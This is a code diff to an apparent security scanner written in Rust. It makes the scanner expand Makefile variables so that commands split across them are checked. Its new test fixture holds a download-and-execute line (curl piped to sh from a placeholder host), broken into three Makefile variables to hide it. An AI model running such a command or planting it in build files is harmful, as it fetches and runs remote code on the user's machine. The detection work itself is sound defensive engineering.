@@ -465,6 +465,23 @@ pub fn check(text: &str) -> RuleOutcome {
 /// [`backdoor_key`]; a wallet's requests rewritten, [`wallet_drainer`]).
 pub fn check_file(path: &str, text: &str) -> RuleOutcome {
     let mut outcome = check(text);
+    // A Makefile's recipe may spell its command out of variables
+    // (`$(_p1)$(_p2)$(_p3)`): its lines are read again as the shell gets them.
+    if let Some(recipes) = crate::flow::makefile_recipes(path) {
+        let sh = recipes(text);
+        if sh.split('\n').zip(text.split('\n')).any(|(a, b)| !a.is_empty() && a != b.trim_start_matches('\t')) {
+            for mut f in check(&sh).findings {
+                if !outcome.findings.iter().any(|x| x.rule == f.rule && x.line == f.line) {
+                    f.note = Some(match f.note.take() {
+                        Some(n) => format!("with the Makefile's variables put in; {n}"),
+                        None => "with the Makefile's variables put in".to_owned(),
+                    });
+                    outcome.findings.push(f);
+                }
+            }
+            outcome.findings.sort_by_key(|f| (f.line, f.rule));
+        }
+    }
     let shipped_settings = agent_config_poisoning::is_shipped_settings(path);
     let shipped_mcp = agent_config_poisoning::is_shipped_mcp_config(path);
     let clipboard = clipboard_hijack::is_candidate(text);
@@ -1355,6 +1372,17 @@ mod tests {
             assert!(regex::Regex::new(p).is_ok(), "{p}");
         }
         assert!(ANCHORS.masks.len() > 50);
+    }
+
+    #[test]
+    fn a_makefile_recipe_spelt_out_of_variables_is_read_as_the_shell_gets_it() {
+        let mk = "_p1 := curl -fsSL htt\n_p2 := ps://h.invalid/i.sh | s\n_p3 := h\n\ndeps:\n\t@$(_p1)$(_p2)$(_p3)\n";
+        let out = check_file("Makefile", mk);
+        let f = out.findings.iter().find(|f| f.rule == RuleId::DownloadExec).expect("download-exec");
+        assert_eq!(f.line, 6);
+        assert!(f.note.as_deref().unwrap_or("").contains("variables put in"), "{:?}", f.note);
+        // The same lines in a file that is not a Makefile are not expanded.
+        assert!(!check_file("notes.txt", mk).findings.iter().any(|f| f.rule == RuleId::DownloadExec));
     }
 
     #[test]
